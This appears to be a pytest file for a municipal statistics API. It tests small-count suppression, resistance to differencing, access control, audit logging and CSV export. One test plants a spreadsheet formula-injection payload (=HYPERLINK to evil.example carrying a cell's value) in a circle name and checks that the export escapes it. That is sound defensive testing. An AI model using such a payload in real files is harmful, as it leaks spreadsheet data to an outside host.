"""Municipal staff see their circles' figures by month, with every small count hidden."""

from datetime import UTC, datetime

import pytest
import time_machine

from circles.core.models import AuditEntry
from circles.extensions import db
from circles.membership.models import Membership
from circles.municipal.models import CheckIn
from tests.factories import (
    make_admin,
    make_circle,
    make_member,
    make_members_joined,
    make_municipality,
    make_staff,
)

LAST_YEAR = datetime(2025, 5, 1, 12, tzinfo=UTC)
JANUARY = datetime(2026, 1, 12, 12, tzinfo=UTC)
FEBRUARY = datetime(2026, 2, 10, 12, tzinfo=UTC)
MARCH = datetime(2026, 3, 10, 12, tzinfo=UTC)
PERIOD = "?from=2026-02&to=2026-03"


def figure(body, key):
    return next(f for f in body["figures"] if f["key"] == key)


def cells(fig, row_key):
    row = next(r for r in fig["rows"] if r["key"] == row_key)
    return dict(zip([c["key"] for c in fig["columns"]], row["cells"], strict=True))


def build_aarhus(make_client, risskov_in_march, in_january=0):
    """Three circles of ten members each from last year, and new members in February and March
    (and January, when given)."""
    municipality = make_municipality("Aarhus")
    circles = []
    for name, february, march in (
        ("Trøjborg", 10, 20),
        ("Frederiksbjerg", 15, 25),
        ("Risskov", 20, risskov_in_march),
    ):
        circle = make_circle(name, municipality=municipality)
        make_members_joined(circle, LAST_YEAR, 10, name="Birthe Secretname")
        if in_january:
            make_members_joined(circle, JANUARY, in_january)
        make_members_joined(circle, FEBRUARY, february)
        make_members_joined(circle, MARCH, march)
        circles.append(circle)
    staff = make_client(make_staff(municipality))
    return municipality, circles[0], circles[2], staff


@pytest.fixture
def aarhus(make_client):
    """Aarhus where Risskov gained only 3 members in March."""
    return build_aarhus(make_client, 3)


@time_machine.travel("2026-04-02 10:00Z", tick=False)
def test_staff_see_members_by_month_and_circle(make_client):
    municipality, big, small, staff = build_aarhus(make_client, 6, in_january=7)
    response = staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}")
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["months"] == ["2026-02", "2026-03"]
    # The finished months of the year, and the quarter once it is over: never a total so far.
    assert body["total_months"] == ["2026-01", "2026-02", "2026-03"]
    new = cells(figure(body, "new_members"), big.id)
    assert (new["2026-02"], new["2026-03"], new["2026-Q1"]) == (10, 20, 37)
    assert figure(body, "new_members")["columns"][-1]["label"] == "1. kvartal 2026"
    assert figure(body, "new_members")["columns"][-1]["months"] == body["total_months"]
    assert cells(figure(body, "circle_members"), big.id) == {"2026-Q1": 47}
    assert cells(figure(body, "members"), "all") == {"2026-02": 96, "2026-03": 147}
    assert cells(figure(body, "active_members"), big.id)["2026-03"]["reason"] == "fewer_than_5"


def test_a_period_lies_within_one_calendar_year(aarhus):
    municipality, _, _, staff = aarhus
    url = f"/api/v1/municipalities/{municipality.id}/stats?from=2025-11&to=2026-02"
    refused = staff.get(url)
    assert refused.status_code == 422 and "kalenderår" in refused.get_json()["message"]


def test_small_counts_are_fewer_than_5_and_differences_give_nothing_away(aarhus):
    municipality, big, small, staff = aarhus
    body = staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}").get_json()
    new = figure(body, "new_members")
    risskov, everyone = cells(new, small.id), cells(new, "all")
    assert risskov["2026-03"] == {
        "suppressed": True,
        "reason": "fewer_than_5",
        "label": "under 5",
    }
    shown = lambda cell: not isinstance(cell, dict)  # noqa: E731
    # Risskov's total minus its other month, and March's total minus the other circles' March
    assert not (shown(risskov["2026-Q1"]) and shown(risskov["2026-02"]))
    others = [cells(new, row["key"])["2026-03"] for row in new["rows"][:2]]
    assert not (shown(everyone["2026-03"]) and all(map(shown, others)))
    assert not (shown(everyone["2026-03"]) and shown(cells(new, big.id)["2026-03"]))
    # nor this month's members minus last month's, minus the other circles' new members
    members = cells(figure(body, "members"), "all")
    assert not (shown(members["2026-03"]) and shown(members["2026-02"]) and all(map(shown, others)))


def test_no_names_contacts_or_places(aarhus):
    municipality, _, _, staff = aarhus
    text = staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}").get_data(True)
    assert "Secretname" not in text and "@example.dk" not in text and "56.17" not in text


def test_check_in_scores_need_five_people(aarhus):
    municipality, big, small, staff = aarhus
    # In Trøjborg 12 check-ins of new members, 2 of 3-6 months and 6 of 6-12, over the quarter
    people = make_members_joined(big, FEBRUARY, 20)
    for index, person in enumerate(people):
        db.session.add(
            CheckIn(
                user_id=person.id,
                circle_id=big.id,
                taken_at=(JANUARY, FEBRUARY, MARCH)[index % 3],
                companionship=1 + index % 3,
                left_out=2,
                isolated=2,
                lonely_direct=3 if index % 2 else 1,
                membership_days=28 if index < 12 else 120 if index < 14 else 200,
            )
        )
    db.session.commit()
    url = f"/api/v1/municipalities/{municipality.id}/stats?from=2026-01&to=2026-03"
    scores = figure(staff.get(url).get_json(), "scores")
    assert scores["period"] == "2026-Q1"  # the longest finished period within the months asked
    everyone = cells(scores, "all")
    assert [everyone[c] for c in ("checkins", "often", "share", "mean")] == [20, 10, 50.0, 5.95]
    assert cells(scores, "6-12")["checkins"] == 6 and cells(scores, "6-12")["mean"] == 6.0
    assert cells(scores, "3-6")["checkins"]["reason"] == "fewer_than_5"
    # a mean or share over too few people is hidden, not "under 5": it is no count
    hidden_mean = cells(scores, "3-6")["mean"]
    assert hidden_mean["reason"] == "hidden" and "under 5" not in hidden_mean["label"]
    assert cells(scores, "12+")["share"]["suppressed"] is True


def test_each_figure_downloads_as_csv(aarhus):
    municipality, big, _, staff = aarhus
    url = f"/api/v1/municipalities/{municipality.id}/stats/new_members.csv{PERIOD}"
    response = staff.get(url)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(True)
    # Danish Excel: a byte order mark, semicolons; the quarters that are over after the months
    assert text.startswith("\ufeff;2026-02;2026-03;1. kvartal 2026")
    lines = text.splitlines()
    assert any(line.startswith("Risskov;") and "under 5" in line for line in lines)
    missing = staff.get(f"/api/v1/municipalities/{municipality.id}/stats/salaries.csv")
    assert missing.status_code == 404


def test_a_circle_named_like_a_formula_stays_text_in_the_csv(aarhus):
    municipality, big, _, staff = aarhus
    big.name = '=HYPERLINK("http://evil.example/?d="&B2,"Trøjborg")'
    db.session.commit()
    url = f"/api/v1/municipalities/{municipality.id}/stats/new_members.csv{PERIOD}"
    lines = staff.get(url).get_data(True).splitlines()
    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
    assert not any(line.lstrip('\ufeff"').startswith(("=", "+", "-", "@")) for line in lines)
    assert not any(f";{c}" in line for line in lines for c in "=+-@")


def test_an_english_reader_gets_commas_and_decimal_points(aarhus, make_client):
    municipality, big, _, _ = aarhus
    english = make_client(make_staff(municipality, language="en"))
    url = f"/api/v1/municipalities/{municipality.id}/stats/new_members.csv{PERIOD}"
    text = english.get(url).get_data(True)
    assert text.startswith("\ufeff,2026-02,2026-03,Q1 2026")


def test_viewing_and_downloading_are_in_the_audit_log(aarhus):
    municipality, _, _, staff = aarhus
    staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}")
    staff.get(f"/api/v1/municipalities/{municipality.id}/stats/members.csv{PERIOD}")
    actions = [e.action for e in db.session.query(AuditEntry).order_by(AuditEntry.id)]
    assert actions == ["stats.viewed_dashboard", "stats.viewed_csv_members"]


def test_only_staff_of_the_municipality_and_admins(aarhus, client, make_client):
    municipality, big, _, _ = aarhus
    url = f"/api/v1/municipalities/{municipality.id}/stats"
    elsewhere = make_client(make_staff(make_municipality("Odense")))
    member = make_client(make_member(big))
    assert client.get(url).status_code == 401
    assert member.get(url).status_code == 403
    assert elsewhere.get(url).status_code == 403
    assert elsewhere.get(url + "/members.csv").status_code == 403
    assert make_client(make_admin()).get(url).status_code == 200
    assert make_client(make_admin()).get("/api/v1/municipalities/999/stats").status_code == 404


def test_a_bad_period_is_named(aarhus):
    municipality, _, _, staff = aarhus
    url = f"/api/v1/municipalities/{municipality.id}/stats"
    bad = staff.get(url + "?from=march")
    assert bad.status_code == 422 and "from" in bad.get_json()["errors"]["query"]
    backwards = staff.get(url + "?from=2026-05&to=2026-01")
    assert backwards.status_code == 422 and "from" in backwards.get_json()["errors"]["json"]
    assert staff.get(url + "?from=2020-01&to=2026-01").status_code == 422


def test_helpers_vetting_status_is_counted_with_small_numbers_hidden(make_client):
    municipality = make_municipality("Aarhus")
    big = make_circle("Trøjborg", municipality=municipality)
    small = make_circle("Risskov", municipality=municipality)
    met = datetime(2025, 1, 5).date()
    # (circle, helpers, vetting expiry): on 31 March 2026 vetted, expiring, expired, not vetted;
    # seen on 2 April, when March is over
    for circle, count, expires in (
        (big, 6, datetime(2027, 1, 5).date()),
        (big, 5, datetime(2026, 4, 20).date()),
        (big, 5, datetime(2026, 2, 1).date()),
        (big, 7, None),
        (small, 2, datetime(2026, 2, 1).date()),
    ):
        for _ in range(count):
            helper = make_member(circle, role="helper")
            if expires:
                membership = db.session.query(Membership).filter_by(user_id=helper.id).one()
                membership.vetted_on, membership.vetting_expires_on = met, expires
    db.session.commit()
    url = f"/api/v1/municipalities/{municipality.id}/stats?from=2026-02&to=2026-03"
    with time_machine.travel("2026-04-02 10:00Z", tick=False):
        # Signed in at that time: a session cookie from a later real time would not be valid yet.
        staff = make_client(make_staff(municipality))
        body = staff.get(url).get_json()
        csv = staff.get(f"/api/v1/municipalities/{municipality.id}/stats/vetting.csv")
    vetting = figure(body, "vetting")
    columns = ["vetted", "expiring", "expired", "not_vetted", "all"]
    assert [c["key"] for c in vetting["columns"]] == columns
    trojborg, risskov, everyone = (cells(vetting, row) for row in (big.id, small.id, "all"))
    assert (everyone["vetted"], everyone["not_vetted"], everyone["all"]) == (6, 7, 25)
    # Risskov's helpers are all under 5, so Trøjborg's would give them away beside the totals.
    assert isinstance(trojborg["vetted"], dict) and isinstance(trojborg["all"], dict)
    assert all(isinstance(risskov[c], dict) for c in columns)  # 0 or 2 helpers: under 5
    hidden = lambda cell: isinstance(cell, dict)  # noqa: E731
    small = lambda cells: any(hidden(c) and c["reason"] == "fewer_than_5" for c in cells)  # noqa: E731
    lines = [[trojborg[c], risskov[c], everyone[c]] for c in columns]
    lines += [[row[c] for c in columns] for row in (trojborg, risskov, everyone)]
    for line in lines:  # no small number follows from a total minus the others
        assert not small(line) or sum(map(hidden, line)) >= 2
    assert csv.status_code == 200 and "under 5" in csv.get_data(True)
